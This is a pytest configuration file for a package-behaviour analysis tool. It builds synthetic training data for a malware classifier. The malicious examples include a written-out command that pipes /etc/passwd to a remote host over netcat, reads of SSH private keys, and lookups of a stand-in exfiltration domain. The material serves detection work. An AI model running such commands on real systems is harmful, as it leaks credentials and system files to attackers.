from __future__ import annotations

import sys
from pathlib import Path

import pytest

TESTS_DIR = Path(__file__).parent
REPO_ROOT = TESTS_DIR.parent

sys.path.insert(0, str(TESTS_DIR))


@pytest.fixture(scope="session")
def solana_bundle() -> Path:
    path = REPO_ROOT / "fixtures" / "solana-style"
    assert path.is_dir(), "run fixtures/make_solana_style.py"
    return path


@pytest.fixture(scope="session")
def golden_trace() -> str:
    return (TESTS_DIR / "fixtures" / "parser_golden.trace").read_text("utf-8")


@pytest.fixture(scope="session")
def golden_expected() -> dict:
    import json

    return json.loads((TESTS_DIR / "fixtures" / "parser_golden.json").read_text("utf-8"))


def build_separable_dataset(n: int = 100):
    """Linearly separable fixture set: benign /usr readers vs exfil traces.

    Returns (phases_dict, label) pairs ready for ml.train.
    """
    from packsift.behavior.records import (
        CommandRecord,
        DomainRecord,
        FileRecord,
        NetworkEndpoint,
        PhaseReport,
        SyscallStats,
    )

    dataset = []
    half = n // 2
    for i in range(half):
        report = PhaseReport(
            phase="execute",
            files=[
                FileRecord(f"/usr/share/doc/pkg{i}/README", {"read"}, {100 + i}),
                FileRecord(f"/usr/lib/libhelper{i % 7}.so", {"read"}, {100 + i}),
            ],
            syscalls=SyscallStats({"openat": 3 + i % 4, "read": 5, "close": 3}, 11 + i % 4),
        )
        dataset.append(({"execute": report}, 0))
    for i in range(n - half):
        report = PhaseReport(
            phase="execute",
            commands=[
                CommandRecord("/bin/sh", ["sh", "-c", f"cat /etc/passwd | nc 10.9.8.{i % 250} 4444"], 200 + i, True, 1)
            ],
            files=[
                FileRecord("/etc/passwd", {"read"}, {200 + i}),
                FileRecord(f"/root/.ssh/id_rsa{i % 3}", {"read"}, {200 + i}),
            ],
            endpoints=[NetworkEndpoint(f"10.9.8.{i % 250}", 4444, "tcp", 5)],
            domains=[DomainRecord(f"{i:08d}deadbeefcafef00d{i:08d}.exfil.example", 1, 7)],
            syscalls=SyscallStats({"openat": 2, "read": 2, "socket": 1, "connect": 1, "sendto": 2}, 8),
        )
        dataset.append(({"execute": report}, 1))
    return dataset
